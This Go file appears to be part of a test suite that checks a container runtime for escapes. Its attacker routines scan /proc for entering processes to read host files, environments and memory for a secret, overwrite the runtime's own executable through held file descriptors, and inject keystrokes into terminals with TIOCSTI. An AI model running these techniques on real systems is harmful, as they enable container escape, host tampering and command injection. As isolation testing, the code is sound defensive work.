package escape

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// attacking, in the environment, makes this program an attacker inside a container.
const attacking = "PORTHOLE_ESCAPE_ATTACK"

func attackFrom(what string) {
	switch what {
	case "newcomers":
		hunt()
	case "starts":
		takeStarters()
	case "typing":
		typeCommand()
	}
}

// hunt looks at every process that comes into this pid namespace until /vol/stop appears: it goes through its
// root, working directory and open files to the host, reads what memory of it may be read, and keeps its program open,
// to overwrite that once it does not run any more.
func hunt() {
	outside := strings.Repeat("/..", 20) + os.Getenv("OUTSIDE") + "/file"
	var own, box unix.Stat_t
	unix.Stat("/proc/self/exe", &own)
	unix.Stat("/bin/busybox", &box)
	found, seen := map[string]bool{}, map[string]bool{}
	kept := map[unix.Stat_t]int{}
	holds := func(path string) bool {
		data, err := os.ReadFile(path)
		return err == nil && strings.Contains(string(data), secret)
	}
	os.WriteFile("/vol/ready", nil, 0o644)
	for {
		_, err := os.Stat("/vol/stop")
		last := err == nil // whoever was to come has come and gone: one try more at their programs
		procs, _ := filepath.Glob("/proc/[0-9]*")
		for _, p := range procs {
			if p == "/proc/1" || p == "/proc/"+strconv.Itoa(os.Getpid()) {
				continue
			}
			seen[p] = true
			dirs := []string{p + "/root", p + "/cwd"}
			fds, _ := os.ReadDir(p + "/fd")
			for _, fd := range fds {
				dirs = append(dirs, p+"/fd/"+fd.Name())
			}
			for _, d := range dirs {
				if holds(d + outside) {
					found["the host's files by "+strings.TrimPrefix(d, p)] = true
				}
			}
			if holds(p + "/environ") {
				found["an environment of the host's"] = true
			}
			if early(p) && remembers(p) {
				found["memory of the host's"] = true
			}
			if fd, err := unix.Open(p+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				var st unix.Stat_t
				unix.Fstat(fd, &st)
				st.Atim, st.Mtim, st.Ctim = unix.Timespec{}, unix.Timespec{}, unix.Timespec{}
				_, have := kept[st]
				if have || st.Ino == own.Ino && st.Dev == own.Dev || st.Ino == box.Ino && st.Dev == box.Dev || st.Size == 0 {
					unix.Close(fd)
				} else {
					kept[st] = fd
				}
			}
		}
		for st, fd := range kept {
			if w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				if n, _ := unix.Pwrite(w, []byte("#!overwritten\n"), 0); n > 0 {
					found[fmt.Sprintf("overwrote a program of %d bytes", st.Size)] = true
				}
				unix.Close(w)
			}
		}
		if last {
			break
		}
		if len(seen) > 0 {
			os.WriteFile("/vol/looked", nil, 0o644)
		}
	}
	var text strings.Builder
	for what := range found {
		fmt.Fprintln(&text, "GOT", what)
	}
	fmt.Fprintln(&text, "met", len(seen))
	os.WriteFile("/vol/said.new", []byte(text.String()), 0o644)
	os.Rename("/vol/said.new", "/vol/said")
}

// early says that a process has not executed its program yet (PF_FORKNOEXEC, proc_pid_stat(5)).
func early(p string) bool {
	stat, _ := os.ReadFile(p + "/stat")
	_, rest, _ := strings.Cut(string(stat), ") ")
	if f := strings.Fields(rest); len(f) > 6 {
		flags, _ := strconv.ParseUint(f[6], 10, 64)
		return flags&0x40 != 0
	}
	return false
}

// remembers says that the secret is in a process's memory.
func remembers(p string) bool {
	maps, _ := os.ReadFile(p + "/maps")
	mem, err := os.Open(p + "/mem")
	if err != nil {
		return false
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if n, _ := fmt.Sscanf(line, "%x-%x", &from, &to); n != 2 || from < 0 {
			continue
		}
		data := make([]byte, min(to-from, 1<<20))
		n, _ := mem.ReadAt(data, from)
		if strings.Contains(string(data[:n]), secret) {
			return true
		}
	}
	return false
}

// hunter starts an attacker in a container called box, with a capability more than containers have, and stops it.
func (c *cell) hunter(what string, env ...string) (stop func() string) {
	c.t.Helper()
	self, err := os.Executable()
	c.check(err)
	c.put(c.rootfs+"/attacker", "")
	s := c.spec("/attacker")
	s.Process.Env = append(append(s.Process.Env, attacking+"="+what), env...)
	more := append([]string{"CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH"}, docker...)
	s.Process.Capabilities = &specs.LinuxCapabilities{Bounding: more, Permitted: more, Effective: more}
	s.Mounts = append(s.Mounts, bind(c.volume, "/vol"), bind(self, "/attacker"))
	if what == "starts" {
		s.Linux.Seccomp = allBut("reboot") // which those who are executed into it have as well
	}
	flags := []string{"-e", attacking + "=" + what, "--cap-add", "SYS_PTRACE", "--cap-add", "DAC_READ_SEARCH", "-v", c.volume + ":/vol", "-v", self + ":/attacker"}
	for _, e := range env {
		flags = append(flags, "-e", e)
	}
	c.background(s, flags...)
	c.await(c.volume + "/ready")
	return func() string {
		c.put(c.volume+"/stop", "")
		c.await(c.volume + "/said")
		said, err := os.ReadFile(c.volume + "/said")
		c.check(err)
		_, met, _ := strings.Cut(string(said), "met ")
		if met == "0\n" {
			c.t.Error("the attacker has met nobody")
		}
		c.t.Logf("met %s", strings.TrimSpace(met))
		got := c.got(string(said))
		if !c.sound() {
			got = first("the runtime's own program is overwritten", got)
		}
		c.gone()
		return got
	}
}

// sound says that the runtime's program is what it was.
func (c *cell) sound() bool {
	now, err := os.ReadFile(c.program)
	c.check(err)
	return bytes.Equal(now, c.whole)
}

// await waits until a file is there.
func (c *cell) await(file string) {
	c.t.Helper()
	for until := time.Now().Add(10 * time.Second); ; time.Sleep(2 * time.Millisecond) {
		if _, err := os.Stat(file); err == nil {
			return
		}
		if time.Now().After(until) {
			c.t.Fatalf("%s does not come", file)
		}
	}
}

// pid is the first process of box, as the host sees it.
func (c *cell) pid() string {
	c.t.Helper()
	said := c.must("state", "box")
	_, rest, _ := strings.Cut(said, `"pid":`)
	pid, _, _ := strings.Cut(strings.TrimSpace(rest), ",")
	return strings.TrimSpace(pid)
}

// newcomers has processes executed into an attacker's container, and further containers made that share its process numbers.
func newcomers(c *cell) string {
	stop := c.hunter("newcomers")
	c.enter([]string{"true"})
	return stop()
}

// enter brings processes into box, over and over: by exec, and as containers that join its pid namespace.
func (c *cell) enter(programs ...[]string) {
	c.rounds(func() string {
		for _, p := range programs {
			if !c.sound() {
				return "enough"
			}
			c.do(append([]string{"exec", "box"}, p...)...)
		}
		return ""
	})
	if c.runtime == "porthole" {
		return
	}
	shared := "/proc/" + c.pid() + "/ns/pid"
	c.rounds(func() string {
		for _, p := range programs {
			s := c.spec(p...)
			s.Linux.Namespaces[0].Path = shared
			s.Linux.CgroupsPath += "-too"
			c.config(s)
			if !c.sound() {
				return "enough"
			}
			c.do("run", "too")
			c.do("delete", "--force", "too")
		}
		return ""
	})
}

// newcomersWeak enters a container's process numbers and nothing else of it: root, environment and program are the host's.
func newcomersWeak(c *cell) string {
	stop := c.hunter("newcomers")
	victim := c.dir + "/victim"
	sleep, err := exec.LookPath("sleep")
	c.check(err)
	c.copy(sleep, victim)
	for range 20 { // until one was there as long as the attacker needed on a busy machine
		cmd := exec.Command("nsenter", "-t", c.pid(), "-p", victim, "0.3")
		cmd.Env = append(os.Environ(), "HOST_SECRET="+secret)
		if out, err := cmd.CombinedOutput(); err != nil {
			c.t.Fatalf("%v: %s", err, out)
		}
		if _, err := os.Stat(c.volume + "/looked"); err == nil {
			break
		}
	}
	got := stop()
	for _, want := range []string{"files by /root", "environment", "overwrote"} {
		if !strings.Contains(got, want) {
			c.t.Errorf("no %q", want)
		}
	}
	return got
}

// overwriting has the runtime execute itself, by every name that its own program has in /proc, beside an attacker that
// waits for it.
func overwriting(c *cell) (got string) {
	c.link("/proc/self/exe", c.rootfs+"/exe")
	c.put(c.rootfs+"/script", "#!/proc/self/exe\n")
	c.put(c.rootfs+"/script-link", "#!/exe\n")
	programs := [][]string{{"/proc/self/exe"}, {"/exe"}, {"/script"}, {"/script-link"}, {"/proc/thread-self/exe"}, {"true"}}
	for _, p := range programs {
		got = first(got, c.try(c.spec(p...), plain))
	}
	stop := c.hunter("newcomers")
	c.enter(programs...)
	return first(got, stop())
}

// inheritable looks at the inheritable capabilities of a container's program, and of those executed into it.
func inheritable(c *cell) (got string) {
	const show = `#!/bin/sh
grep -q 'Cap\(Inh\|Amb\).*[1-9a-f]$' /proc/self/status && echo GOT some
grep -q 'Cap\(Inh\|Amb\).*[1-9a-f]0*$' /proc/self/status && echo GOT some
true
`
	c.put(c.rootfs+"/show", show)
	got = c.try(c.spec("/show"), "--cap-add", "NET_ADMIN")
	c.background(c.spec("sleep", "1000"))
	execs := [][]string{{"box", "/show"}}
	if c.runtime == "porthole" {
		execs = append(execs, []string{"--privileged", "box", "/show"}, []string{"-u", "1000", "box", "/show"})
	} else {
		execs = append(execs, []string{"--cap", "CAP_NET_ADMIN", "box", "/show"}, []string{"--user", "1000", "--cap", "CAP_NET_ADMIN", "box", "/show"})
	}
	for _, args := range execs {
		got = first(got, c.got(c.must(append([]string{"exec"}, args...)...)))
	}
	return got
}

// inheritableWeak asks for them.
func inheritableWeak(c *cell) string {
	c.put(c.rootfs+"/show", "#!/bin/sh\ngrep -q 'CapInh.*[1-9a-f]' /proc/self/status && echo GOT some\n")
	s := c.spec("/show")
	s.Process.Capabilities.Inheritable = docker
	return c.try(s)
}

// execUser asks exec for other users than root, in every spelling of a number.
func execUser(c *cell) (got string) {
	c.background(c.spec("sleep", "1000"))
	for _, u := range []string{"1", "1:1", "01", "0001", "1:0", "65534", "4294967294", "+1", "-1", " 1", "1 ", "0x1", "4294967295", "4294967296", "1:4294967296", "18446744073709551616", "1x"} {
		said, code := c.do("exec", "--user="+u, "box", "id", "-u")
		if said = strings.TrimSpace(said); code == 0 && (said == "0" || (u == "1" || u == "1:1" || u == "01") && said != "1") {
			got = first(got, fmt.Sprintf("--user=%q is uid %s", u, said))
		}
		if code != 0 {
			c.refused++
		}
	}
	return got
}

// typeCommand, inside, types into whatever terminal it can find.
func typeCommand() {
	fds := []int{0, 1, 2}
	for _, name := range []string{"/dev/tty", "/dev/console", "/proc/self/fd/0"} {
		if fd, err := unix.Open(name, unix.O_RDWR, 0); err == nil {
			fds = append(fds, fd)
		}
	}
	for _, steal := range []bool{false, true} {
		for _, fd := range fds {
			if steal {
				unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSCTTY, 1)
			}
			for _, b := range []byte("typed\n") {
				unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
			}
		}
	}
}

// atTerminal runs a command at a terminal, as its session's own, and returns what has been typed into it since.
func (c *cell) atTerminal(cmd *exec.Cmd) string {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	c.check(err)
	defer master.Close()
	c.check(unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0))
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	c.check(err)
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	c.check(err)
	defer slave.Close()
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	attr := &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	if cmd.SysProcAttr != nil {
		attr.Credential = cmd.SysProcAttr.Credential
	}
	cmd.SysProcAttr = attr
	if err := cmd.Run(); err != nil {
		c.refused++
		c.t.Logf("%q: %v", cmd.Args, err)
	} else {
		c.ran++
	}
	fd := int(slave.Fd()) // which makes it blocking, each time
	c.check(unix.SetNonblock(fd, true))
	text := make([]byte, 100)
	if n, err := unix.Read(fd, text); err == nil && n > 0 {
		return fmt.Sprintf("%q was typed", text[:n])
	}
	return ""
}

// typing runs the typist in a container that has its caller's terminal as standard files.
func typing(c *cell) (got string) {
	self, err := os.Executable()
	c.check(err)
	c.put(c.rootfs+"/attacker", "")
	s := c.spec("/attacker")
	s.Process.Env = append(s.Process.Env, attacking+"=typing")
	s.Mounts = append(s.Mounts, bind(self, "/attacker"))
	run := []string{"run", "typist"}
	enter := []string{"exec", "--env", attacking + "=typing", "box", "/attacker"}
	if c.runtime == "porthole" {
		run = []string{"run", "--rm", "-i", "--network", "host", "--security-opt", "seccomp=unconfined", "-e", attacking + "=typing", "-v", self + ":/attacker", "dir:" + c.rootfs, "/attacker"}
	} else {
		c.config(s)
	}
	got = c.atTerminal(c.command(context.Background(), run...))
	if !strings.HasPrefix(c.runtime, "porthole") {
		c.do("delete", "--force", "typist")
	}
	s.Process.Args, s.Linux.CgroupsPath = []string{"sleep", "1000"}, s.Linux.CgroupsPath+"-too"
	s.Process.Env = s.Process.Env[:2]
	c.background(s, "-v", self+":/attacker")
	return first(got, c.atTerminal(c.command(context.Background(), enter...)))
}

// typingWeak runs it in the terminal's own session.
func typingWeak(c *cell) string {
	self, err := os.Executable()
	c.check(err)
	c.copy(self, c.dir+"/attacker")
	cmd := exec.Command(c.dir + "/attacker")
	cmd.Env = append(os.Environ(), attacking+"=typing")
	if legacy, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); err != nil || string(legacy) == "1\n" {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: user, Gid: user}} // else it takes CAP_SYS_ADMIN
	}
	return c.atTerminal(cmd)
}
